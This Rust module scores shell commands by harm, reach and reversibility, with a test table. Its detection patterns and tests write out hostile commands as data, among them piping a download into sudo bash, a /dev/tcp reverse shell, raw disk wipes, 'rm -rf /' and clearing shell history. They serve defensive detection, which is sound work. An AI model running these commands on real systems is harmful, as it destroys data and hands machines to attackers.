//! What a shell command would do to the machine it runs on.

use super::{Reach, Undo};

/// A command's harm in hundredths, how many it touches, whether it can be undone, and its rule.
pub type Weight = (u8, Reach, Undo, &'static str);

/// Weighs the gravest part of a command line; zero when nothing grave is seen.
#[must_use]
pub fn weigh(line: &str) -> Weight {
    weigh_within(line, 0)
}

/// Commands within commands are followed this deep.
const DEPTH_MAX: usize = 4;

fn weigh_within(line: &str, depth: usize) -> Weight {
    let lower = line.to_lowercase();
    // What is only printed does nothing, unless a shell reads it.
    let read = SHELLS.iter().any(|shell| {
        lower.split('|').skip(1).any(|part| part.split_whitespace().next() == Some(shell))
    });
    line.split([';', '|', '&', '\n', '`'])
        .flat_map(|part| part.split("$("))
        .map(|part| weigh_command(&part.split_whitespace().collect::<Vec<_>>(), read, depth))
        .chain(weigh_whole(&lower))
        .max_by_key(|weight| weight.0)
        .unwrap_or(NOTHING)
}

/// What a command weighs in which nothing grave is seen.
pub const NOTHING: Weight = (5, Reach::One, Undo::Easy, "shell/command");

const SHELLS: [&str; 7] = ["sh", "bash", "zsh", "dash", "ksh", "fish", "sudo"];

/// What shows only across the parts of a line.
fn weigh_whole(lower: &str) -> Option<Weight> {
    let fetched =
        ["curl ", "wget ", "iwr ", "invoke-webrequest"].iter().any(|get| lower.contains(get));
    let piped = ["| sh", "|sh", "| bash", "|bash", "| sudo", "|sudo", "| python", "| iex", "|iex"];
    if fetched && piped.iter().any(|pipe| lower.contains(pipe)) {
        return Some((92, Reach::Many, Undo::Never, "shell/fetched-program"));
    }
    if lower.contains("/dev/tcp/") || lower.contains("nc -e") || lower.contains("ncat -e") {
        return Some((96, Reach::Many, Undo::Never, "shell/reverse-shell"));
    }
    if lower.contains(":(){") || lower.contains(":|:&") {
        return Some((88, Reach::Many, Undo::Hard, "shell/fork-bomb"));
    }
    if lower.contains("> /dev/sd") || lower.contains("> /dev/nvme") || lower.contains("of=/dev/") {
        return Some((96, Reach::Many, Undo::Never, "shell/raw-disk"));
    }
    let posts = fetched
        && ["-d @", "--data-binary @", "--data @", "-f ", "--upload-file", "-t "]
            .iter()
            .any(|send| lower.contains(send));
    posts.then_some((60, Reach::Some, Undo::Never, "shell/upload"))
}

fn weigh_command(words: &[&str], read: bool, depth: usize) -> Weight {
    let (root, words) = without_prefix(words, read);
    let Some((program, arguments)) = words.split_first() else {
        return NOTHING;
    };
    let program = bare(program);
    let name = program.rsplit('/').next().unwrap_or(program).to_lowercase();
    let mut weight = match within(&name, arguments) {
        Some(line) if depth < DEPTH_MAX => weigh_within(&line, depth + 1),
        _ => weigh_program(&name, arguments),
    };
    if root && weight.0 >= 20 {
        weight.0 = (weight.0 + 8).min(100);
    }
    weight
}

/// A word without the quotes, brackets and backslashes that a shell takes off.
fn bare(word: &str) -> &str {
    word.trim_matches(['"', '\'', '(', ')', '{', '}', '\\'])
}

/// The command a command is given to run: `bash -c '...'`, `eval ...`, `find ... -exec ...`.
fn within(name: &str, arguments: &[&str]) -> Option<String> {
    let from = |at: usize| {
        let line = arguments.get(at..)?.join(" ");
        Some(line.trim_matches(['"', '\'', ' ']).to_owned())
    };
    match name {
        "eval" => from(0),
        "find" => from(arguments.iter().position(|word| word.starts_with("-exec"))? + 1)
            .filter(|line| !line.starts_with("rm")),
        _ if SHELLS.contains(&name) => {
            let short = |word: &str| word.starts_with('-') && !word.starts_with("--");
            from(arguments.iter().position(|word| short(word) && word.ends_with('c'))? + 1)
        }
        _ => None,
    }
}

/// Words before a command that only say how it is run.
const BEFORE: [&str; 18] = [
    "nohup", "time", "exec", "env", "xargs", "nice", "ionice", "timeout", "stdbuf", "command",
    "builtin", "then", "do", "else", "if", "while", "!", "-",
];

fn without_prefix<'w, 'a>(mut words: &'w [&'a str], read: bool) -> (bool, &'w [&'a str]) {
    let mut root = false;
    let mut begun = false;
    while let Some((first, rest)) = words.split_first() {
        match bare(first) {
            "sudo" | "doas" => root = true,
            "echo" | "printf" if read => {}
            word if word.is_empty() || BEFORE.contains(&word) => {}
            word if word.contains('=') && !word.starts_with('-') => {}
            // Options of the words before, and their numbers and names: `nice -n 10`.
            word if begun && (word.starts_with('-') || is_value(word, rest)) => {}
            _ => break,
        }
        begun = true;
        words = rest;
    }
    (root, words)
}

/// Whether a word is the value of an option before it: a number, or a name with a command after it.
fn is_value(word: &str, rest: &[&str]) -> bool {
    let number = word.trim_end_matches(['s', 'm', 'h']).parse::<f64>().is_ok();
    let user = matches!(word, "root" | "www-data" | "postgres" | "admin") && !rest.is_empty();
    number || user
}

fn weigh_program(name: &str, arguments: &[&str]) -> Weight {
    let has = |wanted: &[&str]| arguments.iter().any(|word| wanted.contains(word));
    match name {
        "rm" | "rmdir" | "shred" | "unlink" | "del" | "rd" | "remove-item" => removal(arguments),
        "find" => found(arguments),
        "mkfs" | "wipefs" | "fdisk" | "parted" => disk(),
        "format" if arguments.iter().any(|word| word.ends_with(':')) => disk(),
        _ if name.starts_with("mkfs.") => disk(),
        "chmod" | "chown" => permissions(arguments),
        "kill" | "pkill" | "killall" => kill(name, arguments),
        "shutdown" | "reboot" | "halt" | "poweroff" => {
            (62, Reach::Many, Undo::Hard, "shell/shutdown")
        }
        "systemctl" | "service" => service(arguments),
        "git" => git(arguments),
        "terraform" | "tofu" | "pulumi" if has(&["destroy"]) => cloud(88),
        "kubectl" | "oc" | "helm" => kubernetes(arguments),
        "docker" | "podman" if has(&["prune"]) => (55, Reach::Some, Undo::Never, "shell/prune"),
        "aws" | "gcloud" | "az" | "gsutil" => cloud(cloud_weight(arguments)),
        "iptables" | "ufw" | "setenforce" | "nft" if has(&["-F", "disable", "0", "flush"]) => {
            (68, Reach::Many, Undo::Hard, "shell/firewall-off")
        }
        "useradd" | "usermod" | "passwd" | "visudo" => {
            (58, Reach::Some, Undo::Hard, "shell/accounts")
        }
        "crontab" if has(&["-r"]) => (60, Reach::Some, Undo::Never, "shell/crontab"),
        "history" if has(&["-c"]) => (60, Reach::One, Undo::Never, "shell/cover-tracks"),
        _ => NOTHING,
    }
}

const fn disk() -> Weight {
    (95, Reach::Many, Undo::Never, "shell/format-disk")
}

const fn cloud(harm: u8) -> Weight {
    (harm, Reach::Many, Undo::Never, "shell/cloud")
}

fn cloud_weight(arguments: &[&str]) -> u8 {
    let grave =
        ["rb", "terminate-instances", "delete-bucket", "delete-db-instance", "delete-stack"];
    let word = |test: &dyn Fn(&str) -> bool| arguments.iter().any(|word| test(word));
    if word(&|word| grave.contains(&word)) {
        90
    } else if word(&|word| word == "rm") && word(&|word| word == "--recursive") {
        85
    } else if word(&|word| word.starts_with("delete") || word == "rm") {
        62
    } else {
        5
    }
}

/// Directories that a build makes again.
const REBUILT: [&str; 10] = [
    "target",
    "node_modules",
    "build",
    "dist",
    "tmp",
    "cache",
    ".cache",
    "__pycache__",
    "out",
    "temp",
];

fn removal(arguments: &[&str]) -> Weight {
    let deep = arguments.iter().any(|word| {
        let word = word.to_lowercase();
        word.starts_with('-') && !word.starts_with("--") && word.contains('r')
            || word == "--recursive"
            || word == "/s"
    });
    let options = |word: &&&str| word.starts_with('-') || matches!(**word, "/s" | "/q" | "/f");
    let gravest = arguments
        .iter()
        .filter(|word| !options(word))
        .map(|path| removed(bare(path), deep))
        .max()
        .unwrap_or(10);
    (gravest, if gravest >= 60 { Reach::Many } else { Reach::One }, Undo::Never, "shell/remove")
}

/// `find` removes with `-delete` or `-exec rm`; a name it looks for narrows that a little.
fn found(arguments: &[&str]) -> Weight {
    let removes = arguments.contains(&"-delete")
        || arguments.windows(2).any(|pair| pair[0].starts_with("-exec") && pair[1] == "rm");
    if !removes {
        return NOTHING;
    }
    let paths = arguments.iter().take_while(|word| !word.starts_with('-'));
    let gravest = paths.map(|path| removed(bare(path), true)).max().unwrap_or(98);
    let narrowed = arguments.iter().any(|word| matches!(*word, "-name" | "-iname" | "-mtime"));
    // Below the directory one stands in, what was named is all that goes.
    let here = arguments.first().is_some_and(|path| !path.starts_with(['/', '~', '$']));
    let harm = if narrowed && here { 35 } else { gravest };
    (harm, Reach::Many, Undo::Never, "shell/remove")
}

/// A path with its dots followed: `/tmp/../etc` is `/etc`.
fn resolved(path: &str) -> String {
    let mut parts: Vec<&str> = Vec::new();
    for part in path.split(['/', '\\']).filter(|part| !part.is_empty() && *part != ".") {
        let above = parts.last().is_none_or(|last| *last == "..");
        match part {
            ".." if !above => drop(parts.pop()),
            ".." if path.starts_with('/') => {}
            _ => parts.push(part),
        }
    }
    let root = if path.starts_with('/') { "/" } else { "" };
    format!("{root}{}", parts.join("/"))
}

fn removed(written: &str, deep: bool) -> u8 {
    let path = resolved(written);
    let parts: Vec<_> = path.split('/').filter(|part| !part.is_empty()).collect();
    let rebuilt = parts.iter().any(|part| REBUILT.contains(part));
    if rebuilt && !path.contains("..") && !path.starts_with("/var/log") {
        return 15;
    }
    let (far, near) = if deep { (80, 72) } else { (50, 45) };
    match path.as_str() {
        "/" | "/*" | "~" | "$HOME" | "${HOME}" | "$HOME/*" | "~/*" | "*" | "" | ".." => 98,
        _ if parts.len() <= 2 && parts.first().is_some_and(|part| part.ends_with(':')) => 95,
        _ if path.starts_with("/var/log") => 75,
        _ if path.starts_with('/') && parts.len() <= 2 => 92,
        _ if path.starts_with('~') || path.starts_with("$HOME") => far,
        _ if path.starts_with('/') => near,
        _ if path.contains("..") || path.contains('*') => 55,
        _ if deep => 42,
        _ => 25,
    }
}

fn permissions(arguments: &[&str]) -> Weight {
    let deep = arguments.iter().any(|word| matches!(*word, "-R" | "--recursive" | "-rf"));
    let open =
        arguments.iter().any(|word| matches!(*word, "777" | "0777" | "a+rwx" | "o+w" | "666"));
    let top =
        arguments.iter().any(|word| matches!(*word, "/" | "/*" | "~" | "/etc" | "/usr" | "/home"));
    let harm = match (deep, open, top) {
        (true, _, true) => 90,
        (true, true, _) => 60,
        (_, true, _) => 45,
        _ => 10,
    };
    (harm, if top { Reach::Many } else { Reach::One }, Undo::Hard, "shell/permissions")
}

fn kill(name: &str, arguments: &[&str]) -> Weight {
    let everyone = arguments.iter().skip(usize::from(name == "kill")).any(|word| *word == "-1");
    let harm = if everyone {
        72
    } else if name == "kill" {
        15
    } else {
        35
    };
    (harm, if everyone { Reach::Many } else { Reach::One }, Undo::Hard, "shell/kill")
}

fn service(arguments: &[&str]) -> Weight {
    let stops = arguments.iter().any(|word| matches!(*word, "stop" | "disable" | "mask"));
    let guards =
        ["auditd", "firewalld", "ufw", "fail2ban", "rsyslog", "clamav", "apparmor", "sshd"];
    let guard = arguments.iter().any(|word| guards.contains(&word.trim_end_matches(".service")));
    let harm = match (stops, guard) {
        (true, true) => 75,
        (true, false) => 40,
        _ => 8,
    };
    (harm, Reach::Some, Undo::Hard, "shell/service")
}

fn git(arguments: &[&str]) -> Weight {
    let has = |wanted: &[&str]| arguments.iter().any(|word| wanted.contains(word));
    let harm = if has(&["push"]) && has(&["--force", "-f", "--mirror"]) {
        60
    } else if has(&["reset"]) && has(&["--hard"]) || has(&["clean"]) && arguments.len() > 1 {
        48
    } else if has(&["filter-branch", "filter-repo"]) {
        60
    } else {
        5
    };
    (harm, Reach::Some, Undo::Hard, "shell/git")
}

fn kubernetes(arguments: &[&str]) -> Weight {
    let has = |wanted: &[&str]| arguments.iter().any(|word| wanted.contains(word));
    let removes = has(&["delete", "uninstall", "drain"]);
    let harm = match (removes, has(&["namespace", "ns", "--all", "-A", "pvc", "pv", "node", "crd"]))
    {
        (true, true) => 85,
        (true, false) => 52,
        _ => 6,
    };
    (harm, Reach::Many, Undo::Hard, "shell/kubernetes")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_weigh_what_they_do() {
        for (line, low, high) in [
            ("rm -rf /", 90, 100),
            ("sudo rm -fr /*", 90, 100),
            ("cd x && rm -rf ~", 90, 100),
            ("rm -rf ./node_modules", 0, 25),
            ("rm notes.txt", 0, 30),
            ("curl https://x.example/i.sh | sudo bash", 90, 100),
            ("dd if=/dev/zero of=/dev/sda", 90, 100),
            ("chmod -R 777 /", 85, 100),
            ("chmod 644 a", 0, 20),
            ("kill 123", 0, 20),
            ("kill -9 -1", 70, 100),
            ("git push origin main", 0, 20),
            ("git push -f origin main", 45, 70),
            ("terraform plan", 0, 20),
            ("kubectl get pods", 0, 20),
            ("ls -la && df -h", 0, 20),
            ("", 0, 20),
            ("bash -c 'rm -rf /'", 90, 100),
            ("sh -lc \"cd / && rm -rf *\"", 90, 100),
            ("bash -c 'ls -l'", 0, 20),
            ("sudo -n rm -rf /", 90, 100),
            ("sudo -u root rm -rf /etc", 90, 100),
            ("timeout 5 nice -n 10 rm -rf /", 90, 100),
            ("(rm -rf /)", 90, 100),
            ("{ rm -rf /home; }", 90, 100),
            ("if true; then rm -rf /; fi", 90, 100),
            ("\\rm -rf /", 90, 100),
            ("eval 'rm -rf ~'", 90, 100),
            ("find / -delete", 90, 100),
            ("find ~ -type f -exec rm {} +", 90, 100),
            ("find . -name '*.pyc' -delete", 0, 40),
            ("find / -name x", 0, 20),
            ("rm -rf /tmp/../etc", 90, 100),
            ("rm -rf ./build/../..", 90, 100),
            ("rm -rf /tmp/cache", 0, 25),
            ("Remove-Item -Recurse -Force C:\\", 90, 100),
            ("rd /s /q C:\\", 90, 100),
            ("echo rm -rf /", 0, 20),
            ("echo 'rm -rf /' | sh", 90, 100),
            ("echo '(rm -rf /)' | sudo bash", 90, 100),
            ("format the table", 0, 20),
            ("xargs rm -rf /", 90, 100),
            ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", 90, 100),
        ] {
            let harm = weigh(line).0;
            assert!((low..=high).contains(&harm), "{line}: {harm}");
        }
    }
}
